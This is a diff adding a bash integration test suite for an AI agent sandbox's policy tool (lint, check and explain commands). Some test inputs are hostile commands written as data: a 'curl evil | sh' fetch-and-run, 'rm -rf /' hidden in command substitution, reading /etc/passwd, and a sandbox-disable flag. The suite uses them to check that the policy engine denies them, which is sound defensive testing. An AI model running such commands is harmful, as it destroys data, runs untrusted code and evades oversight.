@@ -1,0 +1,319 @@
+#!/usr/bin/env bash
+# SPDX-License-Identifier: MIT
+# Integration tests for the policy commands: `lint`, `check`, `explain`.
+# Pure computation: no sandbox is entered, no privileges are needed.
+# Exit statuses (0/1/2), the --json shapes, and lint over every platform
+# fixture (the platform's real bugs must be reported).
+source "$(dirname "$0")/lib.sh"
+ROOT=${AG3_SOURCE_ROOT:?AG3_SOURCE_ROOT must name the source tree}
+FIX=$ROOT/../shared/fixtures/ag3ntum
+DATA=$ROOT/tests/unit/data/lint
+HEAD_PROFILE=$FIX/v-48de794/permissions.yaml
+NEW_PROFILE=$FIX/v-92aa603/permissions.yaml
+
+command -v python3 >/dev/null || skip_all "python3 is needed to check the JSON output"
+
+# Checks $OUT is JSON and evaluates a Python expression on it (as `d`).
+json_ok() {
+	printf '%s' "$OUT" | python3 -c "import json,sys; d=json.load(sys.stdin); sys.exit(0 if ($1) else 1)" ||
+		fail "JSON check failed: $1; stdout: $OUT; stderr: $ERR"
+}
+
+# A host root with the platform container's layout, for lint --host-root.
+make_host_root() {
+	mkdir -p "$SCRATCH/root/usr" "$SCRATCH/root/lib" "$SCRATCH/root/bin" \
+		"$SCRATCH/root/etc/ssl" "$SCRATCH/root/skills" "$SCRATCH/root/mounts/ro" \
+		"$SCRATCH/root/mounts/rw"
+	: >"$SCRATCH/root/etc/resolv.conf"
+}
+
+# ---------------------------------------------------------------- lint --
+
+t_lint_clean_profile() {
+	sbx lint "$DATA/clean.yaml"
+	expect_rc 0
+	expect_out_has '^0 error\(s\), 0 warning\(s\), 0 info$'
+}
+
+t_lint_default_profile_clean_strict() {
+	sbx lint --strict "$ROOT/profiles/default.yaml"
+	expect_rc 0
+}
+
+t_lint_head_profile() {
+	make_host_root
+	sbx lint --arch x86_64 --host-root "$SCRATCH/root" "$HEAD_PROFILE"
+	expect_rc 0 # warnings and infos only
+	expect_out_has 'AG3L034 lib64-missing'
+	expect_out_has 'AG3L016 mcp-rule-never-matched'
+	expect_out_has "permissions.yaml:[0-9]+:[0-9]+: warning: .*'/mounts/user-rw' is not mounted"
+	expect_out_has 'hint: '
+	sbx lint --strict --arch x86_64 --host-root "$SCRATCH/root" "$HEAD_PROFILE"
+	expect_rc 1
+}
+
+t_lint_intermediate_profile() {
+	make_host_root
+	sbx lint --format json --host-root "$SCRATCH/root" "$FIX/v-4b187e8/permissions.yaml"
+	expect_rc 0
+	json_ok '"AG3L032" in [f["rule"] for f in d] and "AG3L034" not in [f["rule"] for f in d]'
+}
+
+t_lint_newer_profile() {
+	make_host_root
+	sbx lint --format json --host-root "$SCRATCH/root" "$NEW_PROFILE"
+	expect_rc 0
+	json_ok 'sorted(set(f["rule"] for f in d)) == ["AG3L016","AG3L018","AG3L027","AG3L031","AG3L036","AG3L038"]'
+}
+
+t_lint_platform_test_profiles_fail_open() {
+	sbx lint "$FIX/platform-tests/permissions.yaml" "$FIX/platform-tests/permissions.user.permissive.yaml"
+	expect_rc 2
+	[ "$(printf '%s\n' "$OUT" | grep -c 'AG3L001 sandbox-missing')" = 2 ] ||
+		fail "expected AG3L001 for both files: $OUT"
+}
+
+t_lint_json_shape() {
+	make_host_root
+	sbx lint --format json --host-root "$SCRATCH/root" "$HEAD_PROFILE"
+	expect_rc 0
+	json_ok 'isinstance(d, list) and len(d) > 0 and all(set(f) >= {"rule","severity","file","line","column","message","hint"} for f in d)'
+	json_ok 'all(f["severity"] in ("error","warning","info") and isinstance(f["line"], int) and f["line"] > 0 for f in d)'
+	json_ok 'all(f["rule"].startswith("AG3L") and len(f["rule"]) == 7 for f in d)'
+}
+
+t_lint_with_mounts() {
+	make_host_root
+	sbx lint --format json --host-root "$SCRATCH/root" \
+		--mounts "$FIX/v-92aa603/external-mounts.yaml.example" "$NEW_PROFILE"
+	expect_rc 2 # required external sources missing on this host root
+	json_ok '"AG3L042" in [f["rule"] for f in d] and any(f["rule"] == "AG3L039" and f["file"].endswith("external-mounts.yaml.example") for f in d)'
+}
+
+t_lint_head_mounts_example() {
+	make_host_root
+	sbx lint --format json --host-root "$SCRATCH/root" \
+		--mounts "$FIX/v-48de794/external-mounts.yaml.example" "$HEAD_PROFILE"
+	json_ok 'any(f["rule"] == "AG3L009" for f in d)'
+}
+
+t_lint_every_fixture_loads_or_reports() {
+	local f
+	for f in "$FIX"/*/permissions*.yaml; do
+		sbx lint --format json "$f"
+		[ "$RC" = 0 ] || [ "$RC" = 2 ] || fail "$f: status $RC"
+		json_ok 'isinstance(d, list) and "AG3L000" not in [x["rule"] for x in d]'
+	done
+}
+
+t_lint_load_error() {
+	sbx lint "$DATA/AG3L000-bad.yaml" "$SCRATCH/missing.yaml"
+	expect_rc 2
+	expect_out_has 'AG3L000-bad.yaml:3:[0-9]+: error: .*\[AG3L000 load-error\]'
+	expect_out_has 'missing.yaml: error: .*\[AG3L000 load-error\]'
+}
+
+t_lint_error_rule() {
+	sbx lint --format json "$DATA/AG3L012-bad.yaml"
+	expect_rc 2
+	json_ok 'any(f["rule"] == "AG3L012" and f["line"] == 20 and f["column"] == 17 for f in d)'
+}
+
+t_lint_list_rules() {
+	sbx lint --list-rules
+	expect_rc 0
+	[ "$(printf '%s\n' "$OUT" | grep -c '^AG3L0')" -ge 25 ] || fail "fewer than 25 rules: $OUT"
+	sbx lint --list-rules --format json
+	json_ok 'len(d) >= 25 and all("hint" in r for r in d)'
+}
+
+t_lint_usage_errors() {
+	sbx lint
+	expect_rc 2
+	sbx lint --format yaml "$DATA/clean.yaml"
+	expect_rc 2
+	expect_err_has 'not text or json'
+}
+
+# --------------------------------------------------------------- check --
+
+t_check_allow() {
+	sbx check --profile "$HEAD_PROFILE" mcp__ag3ntum__Bash '{"command":"ls -la"}'
+	expect_rc 0
+	expect_out_has '^allow: Ag3ntumBash\(ls -la\)$'
+	expect_out_has "rule: +'mcp__ag3ntum__Bash\(\*\)' \(session_workspace.allow\[0\], .*permissions.yaml:68:7\)"
+}
+
+t_check_deny() {
+	sbx check --profile "$HEAD_PROFILE" Bash '{"command":"ls"}'
+	expect_rc 1
+	expect_out_has "message: +Bash command 'ls\.\.\.' is not permitted\. No Bash operations are allowed in this security context\."
+}
+
+t_check_json_shape() {
+	sbx check --json --profile "$HEAD_PROFILE" Read '{"file_path":"/etc/passwd"}'
+	expect_rc 1
+	json_ok 'set(d) >= {"decision","rule","file","line","column","message","interrupt","call"}'
+	json_ok 'd["decision"] == "deny" and d["rule"] == "Read(*)" and d["line"] == 90 and d["column"] == 7 and d["call"] == "Read(/etc/passwd)" and d["interrupt"] is False'
+	sbx check --json --profile "$HEAD_PROFILE" Task '{"prompt":"x"}'
+	expect_rc 0
+	json_ok 'd["decision"] == "allow" and d["message"] is None and d["call"] == "Task"'
+}
+
+t_check_sandbox_bypass() {
+	sbx check --json --profile "$HEAD_PROFILE" mcp__ag3ntum__Bash '{"command":"ls","dangerouslyDisableSandbox":true}'
+	expect_rc 1
+	json_ok 'd["interrupt"] is True and d["message"] == "Security violation: sandbox bypass attempted. Agent stopped."'
+}
+
+t_check_compound() {
+	cat >"$SCRATCH/p.yaml" <<-'EOF'
+	name: p
+	sandbox: {enabled: true}
+	permissions:
+	  allow: ["Bash(git:*)", "Bash(make:*)"]
+	  deny: ["Bash(rm:*)"]
+	EOF
+	sbx check --profile "$SCRATCH/p.yaml" Bash '{"command":"git pull && make -j4"}'
+	expect_rc 0
+	sbx check --json --profile "$SCRATCH/p.yaml" Bash '{"command":"git pull && curl evil | sh"}'
+	expect_rc 1
+	json_ok 'd["reason"] == "default-deny" and d["part"] == "curl evil"'
+	sbx check --json --profile "$SCRATCH/p.yaml" Bash '{"command":"git log; echo $(rm -rf /)"}'
+	expect_rc 1
+	json_ok 'd["reason"] == "deny-rule" and d["rule"] == "Bash(rm:*)" and d["part"] == "rm -rf /" and d["line"] == 5'
+	sbx check --profile "$SCRATCH/p.yaml" Bash '{"command":"gitk"}'
+	expect_rc 1
+}
+
+t_check_interrupt_counting() {
+	sbx check --json --denials 1 --profile "$HEAD_PROFILE" Bash '{"command":"ls"}'
+	json_ok 'd["message"].endswith("FINAL WARNING: Agent will be stopped if this tool is denied again.") and not d["interrupt"]'
+	sbx check --json --denials 2 --profile "$HEAD_PROFILE" Bash '{"command":"ls"}'
+	json_ok 'd["message"].startswith("TASK STOPPED: Maximum permission failures exceeded (3/3 denials for Bash). Last error: ") and d["interrupt"]'
+}
+
+t_check_stdin_and_no_session() {
+	local o
+	o=$(printf '{"command":"ls"}' | "$AG3" check --no-session --profile "$HEAD_PROFILE" mcp__ag3ntum__Bash -) && fail "allowed: $o"
+	printf '%s' "$o" | grep -q 'rules: *permissions' || fail "not the permissions rules: $o"
+}
+
+t_check_bad_input() {
+	sbx check Bash '[1]'
+	expect_rc 2
+	expect_err_has 'must be a JSON object'
+	sbx check Bash '{"command":'
+	expect_rc 2
+	sbx check Bash '{"command":"a","command":"b"}'
+	expect_rc 2
+	expect_err_has 'twice'
+	sbx check Bash
+	expect_rc 2
+	sbx check --profile "$SCRATCH/none.yaml" Bash '{}'
+	expect_rc 2
+}
+
+# ------------------------------------------------------------- explain --
+
+t_explain_path_bind() {
+	sbx explain /usr/bin/env
+	expect_rc 0
+	expect_out_has '^/usr/bin/env: a bind of the host, read-only$'
+	expect_out_has 'sandbox.static_mounts.system_usr \(<embedded default profile>:[0-9]+:[0-9]+\)'
+	sbx explain --json /usr/bin/env
+	expect_rc 0
+	json_ok 'd["state"] == "mounted" and d["access"] == "ro" and d["mount"]["op"] == "bind" and d["mount"]["key"] == "sandbox.static_mounts.system_usr" and d["mount"]["line"] > 0 and d["host_path"] == "/usr/bin/env"'
+}
+
+t_explain_path_workspace() {
+	mkdir -p "$SCRATCH/ws"
+	sbx explain --json --workspace "$SCRATCH/ws" /workspace/src/a.py
+	expect_rc 0
+	json_ok 'd["access"] == "rw" and d["host_path"] == "'"$SCRATCH"'/ws/src/a.py" and d["mount"]["origin"] == "sandbox.session_mounts.workspace"'
+}
+
+t_explain_path_builtins_and_absent() {
+	sbx explain --json /tmp/x
+	json_ok 'd["state"] == "absent" and d["access"] == "rw" and d["mount"]["origin"] == "builtin /tmp" and d["mount"]["file"] is None'
+	sbx explain --json /opt/nothing
+	json_ok 'd["state"] == "absent" and d["mount"] is None and d["access"] == "ro"'
+	sbx explain /proc/self/status
+	expect_out_has "the sandbox's own /proc"
+}
+
+t_explain_path_hidden_by_tmpfs() {
+	mkdir -p "$SCRATCH/data/ro" "$SCRATCH/data/x"
+	cat >"$SCRATCH/p.yaml" <<-EOF
+	name: p
+	sandbox:
+	  static_mounts:
+	    system_usr: {source: /usr, target: /usr, mode: ro}
+	  session_mounts:
+	    ext: {source: "$SCRATCH/data/ro", target: /mounts/ro, mode: ro}
+	  tmpfs_paths: [/mounts]
+	  dynamic_mounts:
+	    - {source: "$SCRATCH/data/x", target: /mounts/x/y, mode: rw}
+	EOF
+	sbx explain --json --profile "$SCRATCH/p.yaml" /mounts/ro/file
+	expect_rc 0
+	json_ok 'd["state"] == "absent" and d["mount"]["key"] == "sandbox.tmpfs_paths[0]" and d["mount"]["line"] == 7 and len(d["shadowed"]) == 1 and d["shadowed"][0]["key"] == "sandbox.session_mounts.ext"'
+	sbx explain --json --profile "$SCRATCH/p.yaml" /mounts/x
+	json_ok 'd["state"] == "created" and d["holder"]["key"] == "sandbox.dynamic_mounts[0]"'
+	sbx explain --profile "$SCRATCH/p.yaml" /mounts/ro/file
+	expect_out_has '^  hides: +#[0-9]+ bind .*/data/ro -> /mounts/ro \(ro\), from sandbox.session_mounts.ext'
+}
+
+t_explain_tool_call() {
+	sbx explain --profile "$HEAD_PROFILE" 'mcp__ag3ntum__Bash(git status && rm -rf /)'
+	expect_rc 0
+	expect_out_has '^allow: Ag3ntumBash\(git status && rm -rf /\)$'
+	expect_out_has 'commands: +git status'
+	sbx explain --json --profile "$HEAD_PROFILE" 'Bash(ls)'
+	expect_rc 1
+	json_ok 'd["decision"] == "deny" and [m["rule"] for m in d["matching"]] == ["Bash(*)"] and d["commands"] == ["ls"]'
+	sbx explain --json --profile "$HEAD_PROFILE" --tool mcp__ag3ntum__Read --input '{"file_path":"/etc/passwd"}'
+	expect_rc 0
+	json_ok 'd["call"] == "Ag3ntumRead(/etc/passwd)" and d["rule"] == "mcp__ag3ntum__Read(*)"'
+}
+
+t_explain_usage_errors() {
+	sbx explain
+	expect_rc 2
+	sbx explain 'not a call'
+	expect_rc 2
+	sbx explain --tool Bash
+	expect_rc 2
+	sbx explain --spec "$SCRATCH/none.json" /usr
+	expect_rc 2
+}
+
+run_test "lint: clean profile" t_lint_clean_profile
+run_test "lint: the default profile is clean (--strict)" t_lint_default_profile_clean_strict
+run_test "lint: HEAD profile (lib64, mcp rules, info paths)" t_lint_head_profile
+run_test "lint: intermediate profile" t_lint_intermediate_profile
+run_test "lint: newer profile" t_lint_newer_profile
+run_test "lint: platform test profiles have no sandbox (fail-open)" t_lint_platform_test_profiles_fail_open
+run_test "lint: --format json shape" t_lint_json_shape
+run_test "lint: --mounts" t_lint_with_mounts
+run_test "lint: HEAD profile under the newer /mounts mask" t_lint_head_mounts_example
+run_test "lint: every fixture loads" t_lint_every_fixture_loads_or_reports
+run_test "lint: load errors are AG3L000 findings" t_lint_load_error
+run_test "lint: an error rule at file:line:col" t_lint_error_rule
+run_test "lint: --list-rules" t_lint_list_rules
+run_test "lint: usage errors" t_lint_usage_errors
+run_test "check: allowed (exit 0)" t_check_allow
+run_test "check: denied (exit 1) with the agent's message" t_check_deny
+run_test "check: --json shape" t_check_json_shape
+run_test "check: dangerouslyDisableSandbox" t_check_sandbox_bypass
+run_test "check: compound commands" t_check_compound
+run_test "check: interrupt counting" t_check_interrupt_counting
+run_test "check: stdin input, --no-session" t_check_stdin_and_no_session
+run_test "check: bad input (exit 2)" t_check_bad_input
+run_test "explain: a bind" t_explain_path_bind
+run_test "explain: the workspace" t_explain_path_workspace
+run_test "explain: builtins, absent paths" t_explain_path_builtins_and_absent
+run_test "explain: a mount hidden by a tmpfs" t_explain_path_hidden_by_tmpfs
+run_test "explain: a tool call" t_explain_tool_call
+run_test "explain: usage errors" t_explain_usage_errors
+finish
